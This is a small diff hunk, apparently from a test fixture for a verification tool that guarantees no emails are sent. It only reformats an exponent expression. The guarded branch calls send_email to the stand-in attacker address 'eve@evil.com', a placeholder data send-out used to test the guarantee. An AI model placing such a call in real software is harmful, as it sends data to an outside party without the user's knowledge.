@@ -7,5 +7,5 @@ from tools.desk.trusted.effects import send_email, number
 @lictor_layer.guarantee(c.none_sent())
 def main() -> None:
     n = number()
-    if 2 ** n == 0.5:
+    if 2**n == 0.5:
         send_email("eve@evil.com", "x")
